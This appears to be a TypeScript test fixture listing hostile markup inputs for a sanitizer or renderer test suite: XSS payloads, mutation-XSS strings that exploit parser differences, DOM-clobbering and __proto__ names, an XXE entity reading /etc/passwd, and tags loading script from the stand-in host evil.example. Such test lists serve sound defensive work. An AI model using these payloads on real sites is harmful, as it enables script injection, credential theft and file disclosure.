import { type HostileCase, inBody, nameCases } from "./hostile.ts";

/** Elements and attributes that run code or fetch. */
const elements = [
	"<script>alert(1)</script>",
	"<script src=https://evil.example/x.js></script>",
	"<SCRIPT>alert(1)</SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"a <img src=x onerror=alert(1)> b",
	"<svg onload=alert(1)>",
	"<body onload=alert(1)>",
	"<iframe src=javascript:alert(1)></iframe>",
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	"<object data=javascript:alert(1)></object>",
	"<embed src=//evil.example>",
	'<a href="javascript:alert(1)">x</a>',
	"<form action=javascript:alert(1)><button>go</button></form>",
	"<input autofocus onfocus=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<video><source onerror=alert(1)></video>",
	"<marquee onstart=alert(1)>",
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	"<base href=https://evil.example/>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<style>*{background:url(https://evil.example)}</style>",
	"<div style=background:url(https://evil.example)>x</div>",
	"<template><script>alert(1)</script></template>",
	"<!--><script>alert(1)</script>-->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php echo 1 ?><script>alert(1)</script>",
	"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"[<script>alert(1)</script>]{anna says}",
	'[a]{anna says cue="<script>alert(1)</script>"}',
];

/** Markup that one parser takes apart in another way than the next. */
const mutations = [
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
	"<textarea><script>alert(1)</script></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	"`</code><script>alert(1)</script>`",
	"```html\n</code></pre><script>alert(1)</script>\n```",
	'```"><script>alert(1)</script>\nx\n```',
	"| <img src=x onerror=alert(1)> | b |\n|---|---|\n| </td><script>alert(1)</script> | c |",
	"# </h1><script>alert(1)</script>",
	"- <li onclick=alert(1)>x",
	"> </blockquote><script>alert(1)</script>",
	"a<b onmouseover=alert(1)>c*d</b>*",
	'<a title="`">[x]{anna says}`</a>',
];

/** Names under which a document's own properties hide. */
const clobbering = [
	"<form id=document><input name=cookie></form>",
	"<a id=statement name=statement></a>",
	"<img name=getElementById>",
	"<div id=__proto__>x</div>",
	"[a]{anna says id=__proto__}",
	"[a]{anna says id=constructor}",
	"[a]{constructor says}",
	"[a]{__proto__ says}",
	"[a]{anna toString bridge}",
	"[a]{anna rejects hasOwnProperty}",
	"[a]{anna says __proto__=x}",
	"[a]{+__proto__}",
	"[a]{note=__proto__}",
	"[a][__proto__] [constructor][] [toString]",
	"[__proto__]: https://evil.example\n\n[x][__proto__]",
];

export const htmlCases: readonly HostileCase[] = [
	...nameCases("html", inBody, elements),
	...nameCases("mutation", inBody, mutations),
	...nameCases("clobbering", inBody, clobbering),
];
